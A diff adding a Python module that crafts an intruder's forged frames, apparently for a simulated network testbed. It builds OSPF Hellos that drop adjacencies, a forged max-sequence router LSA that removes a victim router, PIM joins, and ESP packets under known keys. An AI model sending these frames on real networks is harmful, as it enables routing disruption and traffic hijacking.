@@ -1,0 +1,137 @@
+"""Frames as an intruder makes them: OSPF, PIM and UDP over IPv4 over Ethernet, and ESP under a key that he has.
+
+Pure. Knows nothing of nodes or sockets. What it makes bears the IP identification `FORGED`, which the transport mode
+of ESP leaves as it is: so a listener at a router can tell it from what routers send.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import hmac
+import os
+import struct
+from collections.abc import Callable
+from ipaddress import IPv4Address, IPv4Interface
+
+from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
+
+from agents.ipsec.model import SecurityAssociation
+
+FORGED = 0xBAD0
+STRANGER_MAC = "02:66:00:00:00:01"
+OSPF, PIM, UDP, ESP = 89, 103, 17, 50
+ALL_OSPF, ALL_PIM = IPv4Address("224.0.0.5"), IPv4Address("224.0.0.13")
+_HEAD = 14 + 20
+"""Octets of Ethernet and IPv4 headers."""
+
+
+def internet_checksum(data: bytes) -> int:
+    """RFC 1071."""
+    padded = data + bytes(len(data) % 2)
+    total: int = sum(struct.unpack(f"!{len(padded) // 2}H", padded))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def multicast_mac(group: IPv4Address) -> str:
+    """RFC 1112, section 6.4."""
+    low = int(group) & 0x7FFFFF
+    return f"01:00:5e:{low >> 16:02x}:{low >> 8 & 255:02x}:{low & 255:02x}"
+
+
+def frame(
+    source: IPv4Address, destination: IPv4Address, protocol: int, body: bytes, *, mac: str | None = None, ttl: int = 1
+) -> bytes:
+    """An Ethernet frame with one IPv4 packet. `mac`: of a unicast destination."""
+    to = mac or multicast_mac(destination)
+    ethernet = bytes.fromhex(to.replace(":", "") + STRANGER_MAC.replace(":", "")) + b"\x08\x00"
+    length = 20 + len(body)
+    header = struct.pack(
+        "!BBHHHBBH4s4s", 0x45, 0xC0, length, FORGED, 0, ttl, protocol, 0, source.packed, destination.packed
+    )
+    return summed(ethernet + header + body)
+
+
+def summed(data: bytes) -> bytes:
+    """The frame with the checksum that its IPv4 header needs."""
+    header = bytearray(data[14:_HEAD])
+    header[10:12] = bytes(2)
+    header[10:12] = internet_checksum(bytes(header)).to_bytes(2, "big")
+    return data[:14] + bytes(header) + data[_HEAD:]
+
+
+def udp(source_port: int, port: int, data: bytes) -> bytes:
+    """A UDP datagram without a checksum, which IPv4 allows."""
+    return struct.pack("!HHHH", source_port, port, 8 + len(data), 0) + data
+
+
+def _ospf(kind: int, router_id: IPv4Address, area: str, body: bytes) -> bytes:
+    head = struct.pack("!BBH4s4s", 2, kind, 24 + len(body), router_id.packed, IPv4Address(area).packed)
+    checksum = internet_checksum(head + bytes(4) + body)
+    return head + struct.pack("!HH8s", checksum, 0, b"") + body
+
+
+def ospf_hello(router_id: IPv4Address, address: IPv4Interface, area: str, hello_s: int, dead_s: int) -> bytes:
+    """A Hello that has heard of nobody (RFC 2328, A.3.2): whoever believes it takes the adjacency down."""
+    body = address.netmask.packed + struct.pack("!HBBI", hello_s, 0x02, 0, dead_s) + bytes(8)
+    return _ospf(1, router_id, area, body)
+
+
+def ospf_update(router_id: IPv4Address, area: str, victim: IPv4Address) -> bytes:
+    """An LS Update with a router LSA in the victim's name: no links, and the highest sequence number there is
+    (RFC 2328, A.4.2 and 12.1.6). Whoever believes it takes the victim out of the network."""
+    content = struct.pack("!HBB4s4sI", 0, 0x02, 1, victim.packed, victim.packed, 0x7FFFFFFF)
+    rest = struct.pack("!HH", 24, 0)
+    lsa = bytearray(content + struct.pack("!HH", 0, 20 + len(rest)) + rest)
+    lsa[16:18] = fletcher(bytes(lsa[2:]), 14)
+    return _ospf(4, router_id, area, struct.pack("!I", 1) + bytes(lsa))
+
+
+def fletcher(data: bytes, place: int) -> bytes:
+    """The two octets at `place` (zero in `data`) that make an LSA's checksum right (RFC 905, annex B)."""
+    c0 = c1 = 0
+    for octet in data:
+        c0 = (c0 + octet) % 255
+        c1 = (c1 + c0) % 255
+    x = ((len(data) - place - 1) * c0 - c1) % 255 or 255
+    y = (510 - c0 - x) % 255 or 255
+    return bytes([x, y])
+
+
+def pim_hello(holdtime_s: int = 105) -> bytes:
+    """RFC 7761, section 4.9.2: hold time, and a generation ID that is new."""
+    options = struct.pack("!HHH", 1, 2, holdtime_s) + struct.pack("!HHI", 20, 4, 0xBAD0BAD0)
+    return _pim(0, options)
+
+
+def pim_join(upstream: IPv4Address, group: IPv4Address, source: IPv4Address) -> bytes:
+    """RFC 7761, section 4.9.5: one (S,G) join to `upstream`."""
+    to = b"\x01\x00" + upstream.packed
+    body = to + struct.pack("!BBH", 0, 1, 210)
+    body += b"\x01\x00\x00\x20" + group.packed + struct.pack("!HH", 1, 0) + b"\x01\x00\x04\x20" + source.packed
+    return _pim(3, body)
+
+
+def _pim(kind: int, body: bytes) -> bytes:
+    head = bytes([0x20 | kind, 0])
+    return head + internet_checksum(head + bytes(2) + body).to_bytes(2, "big") + body
+
+
+def esp(
+    sa: SecurityAssociation, sequence: int, protocol: int, payload: bytes, octets: Callable[[int], bytes] = os.urandom
+) -> bytes:
+    """What the holder of an SA's keys sends: AES-CBC with HMAC-SHA-256 cut to 128 bits (RFC 3602, RFC 4868).
+
+    ValueError for another transform.
+    """
+    cipher, integrity = sa.encryption, sa.integrity
+    if cipher is None or integrity is None or cipher.name != "cbc(aes)" or integrity.name != "hmac(sha256)":
+        raise ValueError(f"{sa}: an intruder's ESP is AES-CBC with HMAC-SHA-256 only")
+    padding = -(len(payload) + 2) % 16
+    plain = payload + bytes(range(1, padding + 1)) + bytes([padding, protocol])
+    vector = octets(16)
+    sealing = Cipher(algorithms.AES(cipher.key), modes.CBC(vector)).encryptor()
+    packet = struct.pack("!II", sa.spi, sequence & 0xFFFFFFFF) + vector + sealing.update(plain) + sealing.finalize()
+    high = struct.pack("!I", sequence >> 32) if sa.esn else b""
+    return packet + hmac.new(integrity.key, packet + high, hashlib.sha256).digest()[: (integrity.icv_bits or 128) // 8]
